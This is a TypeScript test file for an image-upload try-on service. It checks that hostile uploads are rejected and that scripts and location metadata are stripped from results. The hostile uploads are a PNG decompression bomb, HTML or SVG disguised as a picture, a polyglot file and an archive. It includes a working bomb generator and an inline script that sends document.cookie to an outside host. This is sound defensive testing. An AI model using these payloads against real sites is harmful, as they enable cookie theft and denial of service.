import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { fixture, tryOnLocally } from "../http/engine.ts";
import { balanceOf } from "../http/people.ts";

/** A PNG of one colour that says it is `side` × `side` pixels, one bit each, in a few kilobytes. */
function bomb(side: number): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * side), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk("IHDR", header), chunk("IDAT", rows), chunk("IEND")]);
}

function chunk(type: string, data = Buffer.alloc(0)): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

const html = "<html><script>fetch('https://example.com/' + document.cookie)</script></html>";
const text = (content: string) => new TextEncoder().encode(content);

const hostile: [string, () => Uint8Array, code: string][] = [
  ["50,000 × 50,000 pixels in a small file", () => bomb(50_000), "picture_too_large"],
  ["a page named .png", () => text(html), "not_a_picture"],
  [
    "a drawing with a script",
    () => text(`<svg xmlns="http://www.w3.org/2000/svg">${html}</svg>`),
    "not_a_picture",
  ],
  [
    "a PNG's first bytes before a page",
    () => Buffer.concat([bomb(8).subarray(0, 8), text(html)]),
    "not_a_picture",
  ],
  [
    "an archive",
    () => Uint8Array.from([0x50, 0x4b, 3, 4, ...new Uint8Array(200)]),
    "not_a_picture",
  ],
];

for (const [what, bytes, code] of hostile) {
  Deno.test(`${what} fails as ${code} and costs nothing`, async () => {
    const { user, ended } = await tryOnLocally(bytes(), await fixture("t-shirt-plain.png"));
    assert.deepEqual([ended.status, ended.failure?.code], ["failed", code]);
    assert.equal((await balanceOf(user)).available, 50);
  });
}

Deno.test("a picture with a page behind it is used, and the page does not come back", async () => {
  const polyglot = Buffer.concat([await fixture("person.png"), text(html)]);
  const { ended } = await tryOnLocally(polyglot, await fixture("t-shirt-plain.png"));
  assert.equal(ended.status, "completed", JSON.stringify(ended.failure));
  const answer = await fetch(ended.result_url ?? "");
  assert.match(answer.headers.get("content-type") ?? "", /^image\//);
  assert.ok(!Buffer.from(await answer.arrayBuffer()).includes("<script>"));
});

Deno.test("where a photo was taken is not in the result", async () => {
  const located = await sharp(await fixture("person.png")).jpeg({ quality: 95 }).withExif({
    IFD0: { Artist: "somebody" },
    IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 0/1" },
  }).toBuffer();
  assert.ok((await sharp(located).metadata()).exif, "the photo says where");
  const { ended } = await tryOnLocally(located, await fixture("t-shirt-plain.png"));
  assert.equal(ended.status, "completed", JSON.stringify(ended.failure));
  const result = Buffer.from(await (await fetch(ended.result_url ?? "")).arrayBuffer());
  const { exif, xmp, iptc } = await sharp(result).metadata();
  assert.deepEqual([exif, xmp, iptc], [undefined, undefined, undefined]);
  assert.ok(!result.includes("somebody"));
});
